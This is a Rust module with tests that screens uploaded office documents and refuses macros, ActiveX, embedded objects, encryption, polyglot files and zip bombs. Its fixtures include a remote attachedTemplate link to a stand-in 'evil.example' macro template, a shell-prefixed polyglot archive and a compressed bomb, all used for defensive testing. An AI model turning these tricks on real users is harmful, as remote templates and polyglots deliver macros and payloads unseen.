//! Whether a packed file is a document of an office program that runs nothing, fetches nothing and carries nothing else.

use std::io::{Cursor, Read};

use zip::ZipArchive;

use super::{FileFormat, FileRefusal};

/// The most parts of a document.
const MOST_PARTS: usize = 3_000;
/// How much a document may be unpacked, in bytes. Sizes that it promises may be lies, so it is unpacked and thrown away.
const MOST_UNPACKED: u64 = 200 * 1024 * 1024;
/// How much of a part is looked at that says what the others are.
const LONGEST_PART: usize = 1024 * 1024;
/// How long the end of a packed file is, without a comment.
const END: usize = 22;

/// Says which document it is.
pub(super) fn check(bytes: &[u8]) -> Result<FileFormat, FileRefusal> {
    check_within(bytes, MOST_UNPACKED)
}

fn check_within(bytes: &[u8], most: u64) -> Result<FileFormat, FileRefusal> {
    let end = bytes.len().checked_sub(END).and_then(|at| bytes.get(at..)).unwrap_or_default();
    let mut archive = ZipArchive::new(Cursor::new(bytes)).map_err(|_| FileRefusal::Damaged)?;
    // It begins with its first part and ends with its end: nothing stands before, behind or in a comment.
    if archive.offset() != 0 || !archive.comment().is_empty() || !end.starts_with(b"PK\x05\x06") {
        return Err(FileRefusal::TwoInOne);
    }
    if archive.len() > MOST_PARTS {
        return Err(FileRefusal::Bomb);
    }
    let (mut found, mut left) = (None, most);
    for at in 0..archive.len() {
        if archive.by_index_raw(at).is_ok_and(|part| part.encrypted()) {
            return Err(FileRefusal::Locked);
        }
        let part = archive.by_index(at).map_err(|_| FileRefusal::Damaged)?;
        let name = part.name().map_err(|_| FileRefusal::Damaged)?.to_ascii_lowercase();
        judge_name(&name)?;
        let mut limited = part.take(left.saturating_add(1));
        let mut text = Vec::new();
        let longest = u64::try_from(LONGEST_PART).unwrap_or(u64::MAX);
        let read = limited.by_ref().take(longest).read_to_end(&mut text).map_err(|_| FileRefusal::Damaged)?;
        let rest = std::io::copy(&mut limited, &mut std::io::sink()).map_err(|_| FileRefusal::Damaged)?;
        let whole = u64::try_from(read).unwrap_or(u64::MAX).saturating_add(rest);
        left = left.checked_sub(whole).ok_or(FileRefusal::Bomb)?;
        if let Some(format) = judge_text(&name, &text)? {
            found = Some(format);
        }
    }
    found.ok_or(FileRefusal::Unknown)
}

/// What the names of parts give away.
fn judge_name(name: &str) -> Result<(), FileRefusal> {
    const MACROS: [&str; 6] = ["vbaproject", "vbadata", "activex", "macrosheets/", "basic/", "scripts/"];
    let is_within = |folder: &str| name.starts_with(folder) || name.contains(&format!("/{folder}"));
    let has_macros = MACROS.iter().any(|sign| if sign.ends_with('/') { is_within(sign) } else { name.contains(sign) });
    if has_macros {
        return Err(FileRefusal::Macros);
    }
    if name.contains("oleobject") || name.ends_with(".exe") || name.ends_with(".js") || name.ends_with(".vbs") {
        return Err(FileRefusal::Attached);
    }
    Ok(())
}

/// What parts say that tell what the others are; the format, where it is said.
fn judge_text(name: &str, text: &[u8]) -> Result<Option<FileFormat>, FileRefusal> {
    let small = || String::from_utf8_lossy(text).to_ascii_lowercase();
    match name {
        "[content_types].xml" => {
            let types = small();
            if types.contains("macroenabled") || types.contains("vbaproject") || types.contains("ms-office.activex") {
                return Err(FileRefusal::Macros);
            }
            let is = |part: &str| types.contains(&format!("openxmlformats-officedocument.{part}.main+xml"));
            Ok(match (is("wordprocessingml.document"), is("spreadsheetml.sheet")) {
                (true, _) => Some(FileFormat::Docx),
                (_, true) => Some(FileFormat::Xlsx),
                _ => None,
            })
        }
        "mimetype" => Ok(match text {
            b"application/vnd.oasis.opendocument.text" => Some(FileFormat::Odt),
            b"application/vnd.oasis.opendocument.spreadsheet" => Some(FileFormat::Ods),
            _ => None,
        }),
        "meta-inf/manifest.xml" if small().contains("encryption-data") => Err(FileRefusal::Locked),
        // A template from elsewhere brings its macros along when the document is opened.
        _ if name.ends_with(".rels") => {
            let links = small();
            let brings = links.contains("attachedtemplate") && links.contains("external");
            if brings { Err(FileRefusal::Macros) } else { Ok(None) }
        }
        _ => Ok(None),
    }
}

#[cfg(test)]
mod tests {
    use std::io::Write;

    use zip::write::{SimpleFileOptions, ZipWriter};

    use super::*;

    const TYPES: &str = "<Types><Override PartName=\"/word/document.xml\" ContentType=\
        \"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml\"/></Types>";

    fn packed(parts: &[(&str, &[u8])]) -> Vec<u8> {
        let mut zip = ZipWriter::new(Cursor::new(Vec::new()));
        for (name, content) in parts {
            zip.start_file(*name, SimpleFileOptions::default()).unwrap();
            zip.write_all(content).unwrap();
        }
        zip.finish().unwrap().into_inner()
    }

    fn with(part: &str, content: &str) -> Result<FileFormat, FileRefusal> {
        check(&packed(&[("[Content_Types].xml", TYPES.as_bytes()), (part, content.as_bytes())]))
    }

    #[test]
    fn documents_are_told_apart() {
        assert_eq!(with("word/document.xml", "<w/>"), Ok(FileFormat::Docx));
        let sheet = TYPES.replace("wordprocessingml.document", "spreadsheetml.sheet");
        assert_eq!(check(&packed(&[("[Content_Types].xml", sheet.as_bytes())])), Ok(FileFormat::Xlsx));
        for (kind, format) in [("text", FileFormat::Odt), ("spreadsheet", FileFormat::Ods)] {
            let kind = format!("application/vnd.oasis.opendocument.{kind}");
            assert_eq!(check(&packed(&[("mimetype", kind.as_bytes()), ("content.xml", b"<x/>")])), Ok(format));
        }
        assert_eq!(check(&packed(&[("photos/1.jpg", b"x")])), Err(FileRefusal::Unknown));
    }

    #[test]
    fn macros_are_refused_wherever_they_show() {
        assert_eq!(with("word/vbaProject.bin", "x"), Err(FileRefusal::Macros));
        assert_eq!(with("xl/macrosheets/sheet1.xml", "x"), Err(FileRefusal::Macros));
        assert_eq!(with("word/activeX/activeX1.xml", "x"), Err(FileRefusal::Macros));
        let types = "application/vnd.ms-word.document.macroEnabled.main+xml";
        assert_eq!(check(&packed(&[("[Content_Types].xml", types.as_bytes())])), Err(FileRefusal::Macros));
        let odt = ("mimetype", &b"application/vnd.oasis.opendocument.text"[..]);
        assert_eq!(check(&packed(&[odt, ("Basic/Standard/Module1.xml", b"x")])), Err(FileRefusal::Macros));
        let template = "<Relationship Type=\"http://x/attachedTemplate\" Target=\"http://evil.example/a.dotm\" TargetMode=\"External\"/>";
        assert_eq!(with("word/_rels/settings.xml.rels", template), Err(FileRefusal::Macros));
        let link =
            "<Relationship Type=\"http://x/hyperlink\" Target=\"https://town.example\" TargetMode=\"External\"/>";
        assert_eq!(with("word/_rels/document.xml.rels", link), Ok(FileFormat::Docx));
    }

    #[test]
    fn other_files_within_around_and_locks_are_refused() {
        assert_eq!(with("word/embeddings/oleObject1.bin", "x"), Err(FileRefusal::Attached));
        let plain = packed(&[("[Content_Types].xml", TYPES.as_bytes())]);
        assert_eq!(check(&[b"#!/bin/sh\n", plain.as_slice()].concat()), Err(FileRefusal::TwoInOne));
        assert!(matches!(check(&[&plain, &b"<html>"[..]].concat()), Err(FileRefusal::TwoInOne | FileRefusal::Damaged)));
        assert_eq!(check(&plain[..plain.len() / 2]), Err(FileRefusal::Damaged));
        let odt = ("mimetype", &b"application/vnd.oasis.opendocument.text"[..]);
        let locked = ("META-INF/manifest.xml", &b"<manifest:encryption-data/>"[..]);
        assert_eq!(check(&packed(&[odt, locked])), Err(FileRefusal::Locked));
    }

    #[test]
    fn what_swells_without_end_is_refused() {
        let zeros = vec![0; 300_000];
        let bomb = packed(&[("[Content_Types].xml", TYPES.as_bytes()), ("word/document.xml", &zeros)]);
        assert!(bomb.len() < 5_000);
        assert_eq!(check_within(&bomb, 200_000), Err(FileRefusal::Bomb));
        assert_eq!(check_within(&bomb, 400_000), Ok(FileFormat::Docx));
    }
}
